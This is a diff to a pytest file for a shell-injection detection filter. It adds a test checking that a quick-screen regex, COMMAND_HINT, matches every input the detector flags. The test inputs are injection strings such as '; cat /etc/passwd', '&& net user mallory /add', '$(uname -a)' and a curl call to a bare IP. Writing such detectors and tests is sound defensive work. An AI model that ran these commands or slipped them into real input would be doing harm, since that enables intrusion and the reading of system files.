@@ -3,8 +3,9 @@
 from __future__ import annotations
 
 import pytest
+import re2
 
-from filters.threat.shell import commands
+from filters.threat.shell import COMMAND_HINT, commands
 
 
 def strongest(text: str) -> float:
@@ -28,3 +29,14 @@ def test_injections(text: str) -> None:
 ])
 def test_not_injections(text: str) -> None:
     assert strongest(text) < 0.5, commands(text.lower())
+
+
+@pytest.mark.parametrize("text", [
+    "; cat /etc/passwd", "| id", "`whoami`", "x; ls -la", "&& net user mallory /add", "; get-service -name x",
+    "abc || sleep 5", "1;cat<<<x", "\ncurl http://198.51.100.7/x", "$(uname -a)",
+])
+def test_command_hint_screens_every_flagged_command(text: str) -> None:
+    """A caller may skip `commands` when COMMAND_HINT does not match: it must match whenever a command is found."""
+    assert commands(text.lower()), text
+    assert re2.search(COMMAND_HINT, text.lower()) is not None
+    assert commands(text.lower(), separated=True, calls=False) == commands(text.lower())
